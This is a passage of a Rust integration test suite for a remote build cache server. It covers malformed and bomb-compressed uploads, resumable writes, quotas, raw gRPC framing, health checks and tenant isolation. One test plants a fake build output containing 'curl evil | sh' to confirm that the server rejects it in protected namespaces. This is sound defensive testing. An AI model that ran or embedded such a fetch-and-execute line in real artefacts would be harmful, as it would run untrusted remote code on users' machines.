    let status = c.bs.write(tokio_stream::iter(requests)).await.unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    // Corrupt and truncated zstd, and a zstd bomb.
    let zname = |uuid: &str, d: &Digest| resource_name::write_name("", uuid, d, Compressor::Zstd);
    let status = c
        .write_named(&zname("f", &digest), &noise(5000, 3), 1000, true)
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
    let compressed = zstd::bulk::compress(&data, 1).unwrap();
    let status = c
        .write_named(
            &zname("g", &digest),
            &compressed[..compressed.len() / 2],
            1000,
            true,
        )
        .await
        .unwrap_err();
    assert_eq!(
        status.code(),
        Code::InvalidArgument,
        "truncated zstd: {status:?}"
    );
    let small = SHA.digest_of(&[0u8; 1000]);
    let bomb = zstd::bulk::compress(&vec![0u8; 64 << 20], 3).unwrap();
    let status = c
        .write_named(&zname("h", &small), &bomb, 1000, true)
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "bomb: {status:?}");
    // Malformed write names.
    for name in [
        format!("blobs/{hash}/{}", data.len()),
        format!("uploads/blobs/{hash}/{}", data.len()),
        format!("uploads/u/blobs/{hash}/abc"),
        format!("uploads/u/blobs/blake2/{hash}/{}", data.len()),
        format!("uploads/u/compressed-blobs/lz4/{hash}/{}", data.len()),
        format!("capabilities/uploads/u/blobs/{hash}/{}", data.len()),
    ] {
        let status = c.write_named(&name, &data, 65_536, true).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{name}");
    }
    let status =
        c.bs.write(tokio_stream::iter(Vec::<WriteRequest>::new()))
            .await
            .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument, "empty stream");

    assert!(
        !server.blobs().contains(&digest).unwrap(),
        "nothing unverified stored"
    );
    assert!(!server.blobs().contains(&small).unwrap());
    assert!(!server.blobs().blob_path(&digest).exists());
    assert_eq!(temp_files(server.dir.path()), 0);
    // And the honest upload still works after all that.
    assert_eq!(
        c.write_named(&upload("z"), &data, 65_536, true)
            .await
            .unwrap(),
        data.len() as i64
    );
    assert_eq!(
        c.read(
            &resource_name::read_name("", &digest, Compressor::Identity),
            0,
            0
        )
        .await
        .unwrap(),
        data
    );
}

#[tokio::test]
async fn interrupted_uploads_resume_with_query_write_status() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    for compressor in [Compressor::Identity, Compressor::Zstd] {
        let data = noise(1 << 20, 10 + compressor as u64);
        let digest = SHA.digest_of(&data);
        let wire = match compressor {
            Compressor::Identity => data.clone(),
            Compressor::Zstd => {
                zstd::bulk::compress(&[data.as_slice(), &[0u8; 1 << 20]].concat()[..1 << 20], 1)
                    .unwrap()
            }
        };
        let name = resource_name::write_name("inst", "resume-me", &digest, compressor);
        let query = || QueryWriteStatusRequest {
            resource_name: name.clone(),
        };
        assert_eq!(
            c.bs.query_write_status(query())
                .await
                .unwrap()
                .into_inner()
                .committed_size,
            0
        );
        // First half, then the stream ends without finish_write.
        let half = wire.len() / 2;
        let status = c
            .write_named(&name, &wire[..half], 10_000, false)
            .await
            .unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument);
        let state = c.bs.query_write_status(query()).await.unwrap().into_inner();
        assert_eq!((state.committed_size, state.complete), (half as i64, false));
        // Resuming at the wrong offset is refused and keeps the upload.
        let wrong = write_requests(&name, &wire, half - 1, 10_000, true);
        assert_eq!(
            c.bs.write(tokio_stream::iter(wrong))
                .await
                .unwrap_err()
                .code(),
            Code::InvalidArgument
        );
        assert_eq!(
            c.bs.query_write_status(query())
                .await
                .unwrap()
                .into_inner()
                .committed_size,
            half as i64
        );
        // Resume at the committed offset.
        let rest = write_requests(&name, &wire, half, 10_000, true);
        let committed =
            c.bs.write(tokio_stream::iter(rest))
                .await
                .unwrap()
                .into_inner()
                .committed_size;
        assert_eq!(committed, wire.len() as i64);
        let state = c.bs.query_write_status(query()).await.unwrap().into_inner();
        assert!(state.complete);
        let read = c
            .read(
                &resource_name::read_name("inst", &digest, Compressor::Identity),
                0,
                0,
            )
            .await
            .unwrap();
        assert_eq!(read, data);
    }
    // Garbage query names.
    let status =
        c.bs.query_write_status(QueryWriteStatusRequest {
            resource_name: "nope".into(),
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::InvalidArgument);
}

#[tokio::test]
async fn idle_interrupted_uploads_expire() {
    let server = TestServer::start_with(|mut config| {
        config.upload_idle_timeout_secs = 1;
        config
    })
    .await;
    let mut c = server.clients().await;
    let data = noise(100_000, 5);
    let digest = SHA.digest_of(&data);
    let name = resource_name::write_name("", "idle", &digest, Compressor::Identity);
    c.write_named(&name, &data[..50_000], 10_000, false)
        .await
        .unwrap_err();
    assert_eq!(temp_files(server.dir.path()), 1);
    tokio::time::sleep(std::time::Duration::from_millis(1800)).await;
    assert_eq!(
        temp_files(server.dir.path()),
        0,
        "temp file of the expired upload is deleted"
    );
    let state =
        c.bs.query_write_status(QueryWriteStatusRequest {
            resource_name: name,
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(state.committed_size, 0);
}

#[tokio::test]
async fn over_quota_is_resource_exhausted() {
    let server = TestServer::start_with(|mut config| {
        config.store.max_bytes = 100_000;
        config
    })
    .await;
    let mut c = server.clients().await;
    let data = noise(200_000, 4);
    let digest = SHA.digest_of(&data);
    let status = c
        .write("", &digest, &data, Compressor::Identity, 65_536)
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::ResourceExhausted, "{status:?}");
    let small = noise(150_000, 4);
    let status = c
        .cas
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests: vec![entry(&SHA.digest_of(&small), &small, 0)],
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        status.responses[0].status.as_ref().unwrap().code,
        Code::ResourceExhausted as i32
    );
    let caps = c
        .caps
        .get_capabilities(GetCapabilitiesRequest::default())
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        caps.cache_capabilities.unwrap().max_cas_blob_size_bytes,
        100_000
    );
    still_serving(&mut c).await;
}

/// One `ByteStream.Read` call with `body` as its request body, raw: the gRPC status (from the
/// headers of a trailers-only answer or from the trailers) with its message, and the body's
/// bytes.
async fn raw_read(
    channel: &mut tonic::transport::Channel,
    headers: &[(&'static str, &'static str)],
    body: Vec<u8>,
) -> (Code, String, Vec<u8>) {
    raw_call(channel, BYTESTREAM_READ, headers, vec![body]).await
}

const BYTESTREAM_READ: &str = "/google.bytestream.ByteStream/Read";
const BYTESTREAM_WRITE: &str = "/google.bytestream.ByteStream/Write";
const FIND_MISSING: &str =
    "/build.bazel.remote.execution.v2.ContentAddressableStorage/FindMissingBlobs";

/// The gRPC method at `path` called over raw HTTP/2, its request body sent as the given
/// `pieces` (one DATA frame each): the status, its message and the response body.
async fn raw_call(
    channel: &mut tonic::transport::Channel,
    path: &str,
    headers: &[(&'static str, &'static str)],
    pieces: Vec<Vec<u8>>,
) -> (Code, String, Vec<u8>) {
    use http_body_util::BodyExt;
    use tonic::codegen::Service;
    let mut request = tonic::codegen::http::Request::post(path)
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let frames = pieces.into_iter().map(|piece| {
        Ok::<_, std::convert::Infallible>(http_body::Frame::data(bytes::Bytes::from(piece)))
    });
    let request = request
        .body(tonic::body::Body::new(http_body_util::StreamBody::new(
            futures::stream::iter(frames),
        )))
        .unwrap();
    std::future::poll_fn(|cx| channel.poll_ready(cx))
        .await
        .unwrap();
    let response = channel.call(request).await.expect("an HTTP answer");
    let (parts, body) = response.into_parts();
    let collected = body.collect().await.expect("the whole body");
    let trailers = collected.trailers().cloned().unwrap_or_default();
    let status = tonic::Status::from_header_map(&parts.headers)
        .or_else(|| tonic::Status::from_header_map(&trailers))
        .expect("a grpc-status");
    (
        status.code(),
        status.message().to_string(),
        collected.to_bytes().to_vec(),
    )
}

/// Extra request headers, the request body, the status expected and what its message names.
type RawCase<'a> = (&'a [(&'static str, &'static str)], Vec<u8>, Code, &'a str);

#[tokio::test]
async fn bytestream_read_requests_framed_by_hand_are_answered_or_refused_by_name() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let mut channel = server.channel().await;
    let data = noise(2_500_000, 7);
    let digest = c.put("", SHA, &data).await;
    let request = rba_proto::bytestream::ReadRequest {
        resource_name: resource_name::read_name("", &digest, Compressor::Identity),
        read_offset: 1,
        read_limit: 0,
    };

    // A well-formed call, raw: the messages decode back to the blob and the trailers say OK.
    let (code, _, body) = raw_read(&mut channel, &[], grpc_message(&request.encode_to_vec())).await;
    assert_eq!(code, Code::Ok);
    let mut received = Vec::new();
    let mut rest = &body[..];
    while !rest.is_empty() {
        let (header, after) = rest.split_at(5);
        assert_eq!(header[0], 0, "uncompressed messages");
        let length = u32::from_be_bytes(header[1..5].try_into().unwrap()) as usize;
        let message = rba_proto::bytestream::ReadResponse::decode(&after[..length]).unwrap();
        assert!(message.data.len() <= rba_cache_server::bytestream::READ_CHUNK);
        received.extend(message.data);
        rest = &after[length..];
    }
    assert_eq!(received, &data[1..]);

    let limit = server.config.max_decoding_message_bytes();
    let well_formed = grpc_message(&request.encode_to_vec());
    let mut two_messages = well_formed.clone();
    two_messages.extend(&well_formed);
    let mut compressed_flag = well_formed.clone();
    compressed_flag[0] = 1;
    let cases: Vec<RawCase> = vec![
        (
            &[],
            vec![],
            Code::InvalidArgument,
            "shorter than a gRPC message header",
        ),
        (
            &[],
            vec![0, 0, 0],
            Code::InvalidArgument,
            "shorter than a gRPC message header",
        ),
        (
            &[],
            compressed_flag,
            Code::InvalidArgument,
            "compressed message",
        ),
        (
            &[],
            well_formed[..well_formed.len() - 1].to_vec(),
            Code::InvalidArgument,
            "the body holds",
        ),
        (&[], two_messages, Code::InvalidArgument, "the body holds"),
        (
            &[],
            grpc_message(&[0xff, 0xff, 0xff]),
            Code::InvalidArgument,
            "not a ReadRequest",
        ),
        (
            &[("grpc-encoding", "gzip")],
            well_formed.clone(),
            Code::Unimplemented,
            "gzip",
        ),
        (
            &[],
            vec![0; limit + 6],
            Code::ResourceExhausted,
            "Read request",
        ),
    ];
    for (headers, body, expected, named) in cases {
        let length = body.len();
        let (code, message, rest) = raw_read(&mut channel, headers, body).await;
        assert_eq!(code, expected, "{length}-byte body {headers:?}: {message}");
        assert!(
            message.contains(named),
            "{length}-byte body: {message:?} should name {named:?}"
        );
        assert!(rest.is_empty(), "no data with a refusal");
        still_serving(&mut c).await;
    }
    // The blob is still served whole through the generated client.
    let name = resource_name::read_name("", &digest, Compressor::Identity);
    assert_eq!(c.read(&name, 0, 0).await.unwrap(), data);
}

/// The request bodies tonic's own framing refuses, around `message` (a well-formed request
/// message), for the calls decoded by hand through tonic's server handling: garbage protobuf,
/// the compressed flag without an encoding, a gzip `grpc-encoding`, the body one byte short,
/// a message longer than `limit`.
fn tonic_framing_cases(message: &[u8], limit: usize) -> Vec<RawCase<'static>> {
    let mut compressed_flag = grpc_message(message);
    compressed_flag[0] = 1;
    let mut truncated = grpc_message(message);
    truncated.truncate(truncated.len() - 1);
    vec![
        (
            &[],
            grpc_message(&[0xff, 0xff, 0xff]),
            Code::Internal,
            "decode",
        ),
        (&[], compressed_flag, Code::Internal, "compress"),
        (
            &[("grpc-encoding", "gzip")],
            grpc_message(message),
            Code::Unimplemented,
            "gzip",
        ),
        (&[], truncated, Code::Internal, "EOF"),
        (
            &[],
            [&[0u8][..], &((limit + 1) as u32).to_be_bytes()].concat(),
            Code::OutOfRange,
            "too large",
        ),
    ]
}

/// `body` cut into pieces of 1, 2, 3, … bytes, then of 64 KiB and 1 MiB + 1: messages,
/// headers and fields split across HTTP/2 frames every way.
fn ragged(body: &[u8]) -> Vec<Vec<u8>> {
    let mut pieces = Vec::new();
    let mut rest = body;
    let mut size = 1;
    while !rest.is_empty() {
        let (piece, after) = rest.split_at(size.min(rest.len()));
        pieces.push(piece.to_vec());
        rest = after;
        size = match size {
            1..=40 => size + 1,
            41 => 65_536,
            _ => (1 << 20) + 1,
        };
    }
    pieces
}

#[tokio::test]
async fn bytestream_writes_decoded_without_a_copy_are_stored_or_refused_by_name() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let mut channel = server.channel().await;
    let data = noise(2_500_000, 11);
    let digest = SHA.digest_of(&data);
    let name = |uuid: &str| resource_name::write_name("", uuid, &digest, Compressor::Identity);
    let message = |uuid: &str, offset: usize, end: usize, finish: bool| {
        WriteRequest {
            resource_name: if offset == 0 {
                name(uuid)
            } else {
                String::new()
            },
            write_offset: offset as i64,
            finish_write: finish,
            data: data[offset..end].to_vec(),
        }
        .encode_to_vec()
    };
    let is_missing = |c: &mut Clients| {
        let mut cas = c.cas.clone();
        async move {
            cas.find_missing_blobs(FindMissingBlobsRequest {
                blob_digests: vec![digest.to_reapi()],
                ..Default::default()
            })
            .await
            .unwrap()
            .into_inner()
            .missing_blob_digests
                == vec![digest.to_reapi()]
        }
    };

    // Refused, each on an upload of its own; nothing is stored and the server goes on.
    let limit = server.config.max_decoding_message_bytes();
    let whole = |uuid: &str| message(uuid, 0, data.len(), true);
    let renamed_second = [
        grpc_message(&message("r", 0, 1000, false)),
        grpc_message(
            &WriteRequest {
                resource_name: resource_name::write_name(
                    "",
                    "other",
                    &digest,
                    Compressor::Identity,
                ),
                write_offset: 1000,
                finish_write: true,
                data: data[1000..].to_vec(),
            }
            .encode_to_vec(),
        ),
    ]
    .concat();
    let gap = [
        grpc_message(&message("g", 0, 1000, false)),
        grpc_message(&message("g", 2000, data.len(), true)),
    ]
    .concat();
    let mut longer = data.clone();
    longer.push(0);
    let too_long = grpc_message(
        &WriteRequest {
            resource_name: name("l"),
            write_offset: 0,
            finish_write: true,
            data: longer,
        }
        .encode_to_vec(),
    );
    let mut cases: Vec<RawCase> = vec![
        (&[], vec![], Code::InvalidArgument, "empty write stream"),
        (
            &[],
            renamed_second,
            Code::InvalidArgument,
            "resource_name changed",
        ),
        (
            &[],
            gap,
            Code::InvalidArgument,
            "write_offset 2000 but 1000",
        ),
        (
            &[],
            too_long,
            Code::InvalidArgument,
            "received 2500001 bytes",
        ),
    ];
    cases.extend(tonic_framing_cases(&whole("f"), limit));
    for (headers, body, expected, named) in cases {
        let length = body.len();
        let (code, message, _) =
            raw_call(&mut channel, BYTESTREAM_WRITE, headers, ragged(&body)).await;
        assert_eq!(code, expected, "{length}-byte body {headers:?}: {message}");
        assert!(
            message.contains(named),
            "{length}-byte body: {message:?} should name {named:?}"
        );
        still_serving(&mut c).await;
        assert!(
            is_missing(&mut c).await,
            "nothing stored by a refused write"
        );
    }

    // Well-formed, in 1 MiB messages cut into ragged frames, the last message with its fields
    // in an unusual order (data before offset and finish_write): stored, and read back whole.
    let mut body = Vec::new();
    let mut offset = 0;
    while offset + (1 << 20) < data.len() {
        body.extend(grpc_message(&message(
            "ok",
            offset,
            offset + (1 << 20),
            false,
        )));
        offset += 1 << 20;
    }
    let last = [
        WriteRequest {
            data: data[offset..].to_vec(),
            ..Default::default()
        }
        .encode_to_vec(),
        WriteRequest {
            write_offset: offset as i64,
            finish_write: true,
            ..Default::default()
        }
        .encode_to_vec(),
    ]
    .concat();
    body.extend(grpc_message(&last));
    let (code, message, response) =
        raw_call(&mut channel, BYTESTREAM_WRITE, &[], ragged(&body)).await;
    assert_eq!(code, Code::Ok, "{message}");
    let committed = rba_proto::bytestream::WriteResponse::decode(&response[5..]).unwrap();
    assert_eq!(committed.committed_size, data.len() as i64);
    assert!(!is_missing(&mut c).await);
    let read = resource_name::read_name("", &digest, Compressor::Identity);
    assert_eq!(c.read(&read, 0, 0).await.unwrap(), data);
}

#[tokio::test]
async fn find_missing_requests_decoded_by_hand_are_answered_or_refused_by_name() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let mut channel = server.channel().await;
    let present = c.put("", SHA, b"present").await;
    // 2,000 digests, every other one absent, each digest message in one of the shapes a
    // protobuf encoder may write (as every client does, size first, an unknown field, the hash
    // twice with the last one right, the size written out as a non-minimal varint), the
    // request cut into ragged frames.
    let field = |key: u8, value: &[u8]| [&[key, value.len() as u8][..], value].concat();
    let mut message = Vec::new();
    let mut expected = Vec::new();
    for i in 0..2_000u32 {
        let digest = if i % 2 == 0 {
            present
        } else {
            let absent = SHA.digest_of(&i.to_le_bytes());
            expected.push(absent.to_reapi());
            absent
        };
        let hash = field(0x0a, digest.hash_hex().as_bytes());
        let mut size = vec![0x10];
        prost::encoding::encode_varint(digest.size, &mut size);
        let shape = match i % 5 {
            0 => digest.to_reapi().encode_to_vec(),
            1 => [size, hash].concat(),
            2 => [hash, size, vec![0x98, 0x06, 0x01]].concat(),
            3 => [field(0x0a, &[b'z'; 64]), hash, size].concat(),
            _ => [
                hash,
                vec![0x10, 0x80 | digest.size as u8 & 0x7f, 0x80, 0x00],
            ]
            .concat(),
        };
        message.push(0x12);
        prost::encoding::encode_varint(shape.len() as u64, &mut message);
        message.extend(shape);
    }
    let body = grpc_message(&message);
    let (code, status, response) = raw_call(&mut channel, FIND_MISSING, &[], ragged(&body)).await;
    assert_eq!(code, Code::Ok, "{status}");
    let missing = FindMissingBlobsResponse::decode(&response[5..]).unwrap();
    assert_eq!(missing.missing_blob_digests, expected);

    // Refused, each by name, and the server goes on.
    let limit = server.config.max_decoding_message_bytes();
    let uppercase = FindMissingBlobsRequest {
        blob_digests: vec![wire(&"AB".repeat(32), 1)],
        ..Default::default()
    };
    let cut_digest = grpc_message(&message[..message.len() - 10]);
    let mut cases: Vec<RawCase> = vec![
        (&[], vec![], Code::Internal, "Missing request message"),
        (&[], cut_digest, Code::Internal, "decode"),
        (
            &[],
            grpc_message(&uppercase.encode_to_vec()),
            Code::InvalidArgument,
            "malformed hash \"ABAB",
        ),
    ];
    cases.extend(tonic_framing_cases(&message, limit));
    for (headers, body, expected, named) in cases {
        let length = body.len();
        let (code, message, _) = raw_call(&mut channel, FIND_MISSING, headers, ragged(&body)).await;
        assert_eq!(code, expected, "{length}-byte body {headers:?}: {message}");
        assert!(
            message.contains(named),
            "{length}-byte body: {message:?} should name {named:?}"
        );
        still_serving(&mut c).await;
    }
}

#[tokio::test]
async fn corrupt_stored_blob_is_data_loss_not_garbage() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let data = noise(10_000, 6);
    let digest = c.put("", SHA, &data).await;
    // Truncate the stored file behind the server's back.
    std::fs::write(server.blobs().blob_path(&digest), &data[..5000]).unwrap();
    let status = c
        .read(
            &resource_name::read_name("", &digest, Compressor::Identity),
            0,
            0,
        )
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::DataLoss, "{status:?}");
    let read = c
        .cas
        .batch_read_blobs(BatchReadBlobsRequest {
            digests: vec![digest.to_reapi()],
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        read.responses[0].status.as_ref().unwrap().code,
        Code::DataLoss as i32
    );
}

#[tokio::test]
async fn metrics_count_requests_hits_bytes_and_store_size() {
    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let digest = c.put("", SHA, b"metric me").await;
    let action = SHA.digest_of(b"metrics action");
    c.ac.update_action_result(UpdateActionResultRequest {
        action_digest: Some(action.to_reapi()),
        action_result: Some(action_result(&[("o", digest)], None, None)),
        ..Default::default()
    })
    .await
    .unwrap();
    let get = GetActionResultRequest {
        action_digest: Some(action.to_reapi()),
        ..Default::default()
    };
    c.ac.get_action_result(get.clone()).await.unwrap();
    let miss = GetActionResultRequest {
        action_digest: Some(digest.to_reapi()),
        ..Default::default()
    };
    c.ac.get_action_result(miss).await.unwrap_err();
    c.read(
        &resource_name::read_name("", &digest, Compressor::Identity),
        0,
        0,
    )
    .await
    .unwrap();
    c.caps
        .get_capabilities(GetCapabilitiesRequest::default())
        .await
        .unwrap();
    let bad_instance = GetCapabilitiesRequest {
        instance_name: "../x".into(),
    };
    c.caps.get_capabilities(bad_instance).await.unwrap_err();
    let text = http_get(server.running().metrics_addr.unwrap(), "/metrics").await;
    assert!(
        text.starts_with("HTTP/1.0 200") || text.starts_with("HTTP/1.1 200"),
        "{text}"
    );
    for line in [
        "rba_cache_requests_total{method=\"GetActionResult\",code=\"ok\"} 1",
        "rba_cache_requests_total{method=\"GetActionResult\",code=\"not_found\"} 1",
        "rba_cache_requests_total{method=\"BatchUpdateBlobs\",code=\"ok\"} 1",
        "rba_cache_requests_total{method=\"Read\",code=\"ok\"} 1",
        "rba_cache_requests_total{method=\"GetCapabilities\",code=\"ok\"} 1",
        "rba_cache_requests_total{method=\"GetCapabilities\",code=\"invalid_argument\"} 1",
        "rba_cache_action_cache_hits_total 1",
        "rba_cache_action_cache_misses_total 1",
        "rba_cache_bytes_received_total 9",
        "rba_cache_bytes_sent_total 9",
        "rba_cache_store_bytes 9",
        "rba_cache_store_blobs 1",
        "rba_cache_evictions_total 0",
    ] {
        assert!(text.contains(line), "missing {line:?} in:\n{text}");
    }
}

#[tokio::test]
async fn execution_and_operations_are_unimplemented_when_execution_is_disabled() {
    let server = TestServer::start().await;
    let channel = server.channel().await;
    let mut exec = reapi::execution_client::ExecutionClient::new(channel.clone());
    let status = exec
        .execute(reapi::ExecuteRequest::default())
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::Unimplemented);
    let mut ops = rba_proto::longrunning::operations_client::OperationsClient::new(channel);
    let status = ops
        .get_operation(rba_proto::longrunning::GetOperationRequest { name: "x".into() })
        .await
        .unwrap_err();
    assert_eq!(status.code(), Code::Unimplemented);
}

#[tokio::test]
async fn health_answers_without_a_token_and_turns_not_serving_on_shutdown() {
    use tonic_health::pb::HealthCheckRequest;
    use tonic_health::pb::health_check_response::ServingStatus;
    use tonic_health::pb::health_client::HealthClient;
    let server = TestServer::start_with(with_tokens).await;
    let mut health = HealthClient::new(server.channel().await);
    let check = |service: &str| HealthCheckRequest {
        service: service.into(),
    };
    for service in [
        "",
        "build.bazel.remote.execution.v2.ContentAddressableStorage",
        "build.bazel.remote.execution.v2.ActionCache",
        "build.bazel.remote.execution.v2.Capabilities",
        "google.bytestream.ByteStream",
    ] {
        let answer = health.check(check(service)).await.unwrap().into_inner();
        assert_eq!(answer.status(), ServingStatus::Serving, "{service:?}");
    }
    // Execution is off on this server; an unknown name is unknown.
    for service in [
        "build.bazel.remote.execution.v2.Execution",
        "no.such.Service",
    ] {
        let status = health.check(check(service)).await.unwrap_err();
        assert_eq!(status.code(), Code::NotFound, "{service:?}");
    }
    // The REAPI itself still wants its token.
    let mut c = server.clients().await;
    assert_eq!(
        c.caps
            .get_capabilities(GetCapabilitiesRequest::default())
            .await
            .unwrap_err()
            .code(),
        Code::Unauthenticated
    );

    // A watcher sees NOT_SERVING as soon as shutdown starts.
    let mut watch = health.watch(check("")).await.unwrap().into_inner();
    let first = watch.message().await.unwrap().unwrap();
    assert_eq!(first.status(), ServingStatus::Serving);
    let stopping = tokio::spawn(server.shutdown());
    let next = tokio::time::timeout(std::time::Duration::from_secs(5), watch.message())
        .await
        .expect("a status change within 5 s")
        .unwrap()
        .unwrap();
    assert_eq!(next.status(), ServingStatus::NotServing);
    drop(watch);
    stopping.await.unwrap();
}

#[tokio::test]
async fn restart_serves_cached_results_from_the_same_data() {
    let mut server = TestServer::start().await;
    let mut c = server.clients().await;
    let data = noise(2 << 20, 9);
    let digest = SHA.digest_of(&data);
    c.write("ci", &digest, &data, Compressor::Identity, 1 << 20)
        .await
        .unwrap();
    let b3 = c.put("ci", B3, b"blake3 blob").await;
    let action = SHA.digest_of(b"restart action");
    let result = action_result(&[("big", digest)], None, None);
    c.ac.update_action_result(UpdateActionResultRequest {
        instance_name: "ci".into(),
        action_digest: Some(action.to_reapi()),
        action_result: Some(result.clone()),
        ..Default::default()
    })
    .await
    .unwrap();
    let stats_before = server.blobs().stats();

    server.restart().await;
    let mut c = server.clients().await;
    let hit =
        c.ac.get_action_result(GetActionResultRequest {
            instance_name: "ci".into(),
            action_digest: Some(action.to_reapi()),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(hit, result);
    assert_eq!(
        c.read(
            &resource_name::read_name("ci", &digest, Compressor::Identity),
            0,
            0
        )
        .await
        .unwrap(),
        data
    );
    assert_eq!(
        c.read(
            &resource_name::read_name("ci", &b3, Compressor::Identity),
            0,
            0
        )
        .await
        .unwrap(),
        b"blake3 blob"
    );
    let stats_after = server.blobs().stats();
    assert_eq!(
        (stats_after.total_bytes, stats_after.blob_count),
        (stats_before.total_bytes, stats_before.blob_count)
    );
}

#[tokio::test]
async fn clients_cannot_write_the_executors_namespaces_nor_read_tenant_scoped_ones() {
    use rba_executor::runner::{CARGO_INSTANCE, Provenance, result_namespace};
    use rba_executor::tenant::Tenant;

    let server = TestServer::start().await;
    let mut c = server.clients().await;
    let action = SHA.digest_of(b"a popular tree's build action");
    // What the executor stored: a clean build in the shared namespace, a build on a reused
    // target dir in its tenant's namespace.
    let executors = ActionResult {
        exit_code: 0,
        stdout_raw: Vec::new(),
        ..Default::default()
    };
    let tenant = Tenant::token("alice");
    let scoped = result_namespace(CARGO_INSTANCE, &tenant, Provenance::TenantState, true);
    let failed = result_namespace(CARGO_INSTANCE, &tenant, Provenance::Clean, false);
    let actions = &server.running().embedded.as_ref().unwrap().actions;
    actions.put(CARGO_INSTANCE, &action, &executors).unwrap();
    actions.put(&scoped, &action, &executors).unwrap();

    // A planted result: exit 0 and a "binary" the attacker chose (inline, so nothing else is
    // needed for the update to be complete).
    let planted = ActionResult {
        exit_code: 0,
        output_files: vec![OutputFile {
            path: "target/debug/app".into(),
            contents: b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
            is_executable: true,
            ..Default::default()
        }],
        ..Default::default()
    };
    for instance in [
        CARGO_INSTANCE.to_string(),
        "rba/cargo-next".to_string(),
        scoped.clone(),
        failed.clone(),
        "ci/linux\u{0}tenant:token:alice".to_string(),
    ] {
        let status =
            c.ac.update_action_result(UpdateActionResultRequest {
                instance_name: instance.clone(),
                action_digest: Some(action.to_reapi()),
                action_result: Some(planted.clone()),
                ..Default::default()
            })
            .await
            .unwrap_err();
        assert_eq!(
            status.code(),
            Code::PermissionDenied,
            "{instance:?}: {status:?}"
        );
        assert!(
            status.message().contains(&format!("{instance:?}")),
            "the refusal names the instance: {status:?}"
        );
    }
    // Nothing was overwritten or added.
    assert_eq!(
        actions.get(CARGO_INSTANCE, &action).unwrap(),
        Some(executors.clone())
    );
    assert_eq!(
        actions.get(&scoped, &action).unwrap(),
        Some(executors.clone())
    );
    assert_eq!(actions.get(&failed, &action).unwrap(), None);
    assert_eq!(actions.get("rba/cargo-next", &action).unwrap(), None);

    let get = |instance: &str| GetActionResultRequest {
        instance_name: instance.into(),
        action_digest: Some(action.to_reapi()),
        ..Default::default()
    };
    // The shared namespace is readable (anyone is served it anyway)…
    let shared =
        c.ac.get_action_result(get(CARGO_INSTANCE))
            .await
            .unwrap()
            .into_inner();
    assert_eq!(shared, executors);
    // …a tenant's own namespace is not, whoever asks.
    for instance in [&scoped, &failed] {
        let status = c.ac.get_action_result(get(instance)).await.unwrap_err();
        assert_eq!(
            status.code(),
            Code::PermissionDenied,
            "{instance:?}: {status:?}"
        );
    }
    // An ordinary instance is still the client's to write.
    let stored =
        c.ac.update_action_result(UpdateActionResultRequest {
            instance_name: "ci/linux".into(),
            action_digest: Some(action.to_reapi()),
            action_result: Some(planted),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(stored.exit_code, 0);
    still_serving(&mut c).await;
}

const TOKEN_A: &str = "tenant-a-token-0123";
const TOKEN_B: &str = "tenant-b-token-0123";
const TOKEN_C: &str = "tenant-c-token-0123";
const TOKEN_OPS: &str = "operator-token-0123";

/// Tenants `token:a`, `token:b`, `token:c` (which also sees `token:a`), and an operator
/// (`tenants = ["*"]`), all read-write.
fn with_tenants(mut config: rba_cache_server::Config) -> rba_cache_server::Config {
    let token =
        |name: &str, secret: &str, tenants: &[&str]| rba_cache_server::config::TokenConfig {
            name: name.into(),
            token: secret.into(),
            access: rba_cache_server::auth::Access::ReadWrite,
            tenants: tenants.iter().map(|t| t.to_string()).collect(),
        };
    config.auth.tokens = vec![
        token("a", TOKEN_A, &[]),
        token("b", TOKEN_B, &[]),
        token("c", TOKEN_C, &["token:a"]),
        token("ops", TOKEN_OPS, &["*"]),
    ];
    config
}

async fn put_as(c: &mut Clients, token: &str, data: &[u8]) -> Digest {
    c.put_as(token, "", data).await
}

/// The per-blob status codes of a BatchReadBlobs, and the data.
async fn batch_read_as(c: &mut Clients, token: &str, digests: &[Digest]) -> Vec<(i32, Vec<u8>)> {
    c.cas
        .batch_read_blobs(bearer(
            BatchReadBlobsRequest {
                digests: digests.iter().map(Digest::to_reapi).collect(),
                ..Default::default()
            },
            token,
        ))
        .await
        .unwrap()
        .into_inner()
        .responses
        .into_iter()
        .map(|r| (r.status.unwrap().code, r.data))
        .collect()
}

async fn missing_as(c: &mut Clients, token: &str, digests: &[Digest]) -> Vec<Digest> {
    c.cas
        .find_missing_blobs(bearer(
            FindMissingBlobsRequest {
                blob_digests: digests.iter().map(Digest::to_reapi).collect(),
                ..Default::default()
            },
            token,
        ))
        .await
        .unwrap()
        .into_inner()
        .missing_blob_digests
        .iter()
        .map(|d| Digest::from_reapi(SHA, d).unwrap())
        .collect()
}

async fn bytestream_read_as(
    c: &mut Clients,
    token: &str,
    digest: &Digest,
) -> Result<Vec<u8>, tonic::Status> {
    c.read_as(token, "", digest).await
}

/// The code a refused ByteStream read as `token` ends with.
async fn bytestream_refusal_as(c: &mut Clients, token: &str, digest: &Digest) -> Code {
    c.read_as(token, "", digest)
        .await
        .expect_err("the read is refused")
        .code()
}

async fn bytestream_write_as(
    c: &mut Clients,
    token: &str,
